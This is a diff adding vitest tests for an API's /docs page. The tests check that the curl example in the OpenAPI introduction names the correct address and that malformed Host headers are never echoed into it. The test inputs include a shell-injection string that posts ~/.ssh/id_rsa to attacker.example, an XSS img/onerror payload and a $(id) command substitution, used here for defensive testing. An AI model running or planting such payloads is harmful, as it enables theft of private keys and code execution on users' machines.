@@ -4,6 +4,8 @@ import { describe, expect, it } from 'vitest';
 import { DOCS_ASSETS, DOCS_CSP } from '../../src/adapters/http/openapi/docs-page.js';
 import { SECURITY_HEADERS } from '../../src/adapters/http/request-context.js';
 import { useTestServer } from '../support/http-harness.js';
+import { rawExchange } from '../support/raw-exchange.js';
+import { testConfig } from '../support/test-config.js';
 import { expectError } from './expect-http.js';
 
 const swaggerUiFile = (name: string) => readFileSync(createRequire(import.meta.url).resolve(`swagger-ui-dist/${name}`));
@@ -116,5 +118,67 @@ describe('GET /docs/assets/{asset}', () => {
   it('answers 404 for nested paths', async () => {
     expectError(await server.request('GET', '/docs/assets/a/swagger-ui.css', { anonymous: true }), 404, 'not_found');
     expectError(await server.request('GET', '/docs/assets/', { anonymous: true }), 404, 'not_found');
+  });
+});
+
+/** The interface document's introduction (what /docs shows first) as served to a request with this Host. */
+async function introductionVia(url: string, host: string): Promise<string> {
+  const answer = await rawExchange(url, [`GET /v1/openapi.json HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`]);
+  expect(answer).toMatch(/^HTTP\/1\.1 200 /);
+  return (JSON.parse(answer.slice(answer.indexOf('\r\n\r\n') + 4)) as { info: { description: string } }).info.description;
+}
+
+/** The address of the introduction's first curl line. */
+const firstRequest = (introduction: string) => /curl -H "Authorization: Bearer \$API_KEY" '([^']+)'/.exec(introduction)?.[1];
+
+describe("the /docs introduction's first request", () => {
+  const { production, staging } = testConfig().servers;
+
+  describe('served by a local instance (APP_ENV=local)', () => {
+    it('names the address the page was reached at, and answers there', async () => {
+      const response = await server.request('GET', '/v1/openapi.json', { anonymous: true });
+      const introduction = (JSON.parse(response.text) as { info: { description: string } }).info.description;
+      expect(firstRequest(introduction)).toBe(`${server.url}/v1/pets?limit=5`);
+      expect(introduction).toContain('This instance runs locally');
+      expect(introduction).not.toContain(production);
+      const first = await server.request('GET', firstRequest(introduction)!.slice(server.url.length));
+      expect(first.status).toBe(200);
+      expect(Array.isArray(first.json)).toBe(true);
+    });
+
+    it('names the host and port of the Host header, as a browser at localhost sends it', async () => {
+      const { port } = new URL(server.url);
+      expect(firstRequest(await introductionVia(server.url, `localhost:${port}`))).toBe(`http://localhost:${port}/v1/pets?limit=5`);
+      expect(firstRequest(await introductionVia(server.url, `[::1]:${port}`))).toBe(`http://[::1]:${port}/v1/pets?limit=5`);
+    });
+
+    it.each([
+      "evil.example'; curl -d @$HOME/.ssh/id_rsa attacker.example; echo '",
+      '<img src=x onerror=alert(1)>',
+      'a$(id).example',
+      'example.com:3000/../x',
+      '[::1%25eth0]:3000',
+      'host:99999',
+      `${'a'.repeat(64)}.example`,
+    ])('never writes a malformed Host (%s) into the page: it names the address the request arrived on', async (host) => {
+      const introduction = await introductionVia(server.url, host);
+      expect(firstRequest(introduction)).toBe(`${server.url}/v1/pets?limit=5`);
+      expect(introduction).not.toContain(host);
+    });
+  });
+
+  describe.each([
+    ['production', production],
+    ['staging', staging],
+  ] as const)('served in %s', (appEnv, base) => {
+    const deployed = useTestServer({ appEnv });
+
+    it(`names ${base}, whatever Host the request carries`, async () => {
+      const { port } = new URL(deployed.url);
+      const viaLocalhost = await introductionVia(deployed.url, `localhost:${port}`);
+      expect(firstRequest(viaLocalhost)).toBe(`${base}/pets?limit=5`);
+      expect(viaLocalhost).not.toContain('runs locally');
+      expect(await introductionVia(deployed.url, 'other.example')).toBe(viaLocalhost);
+    });
   });
 });
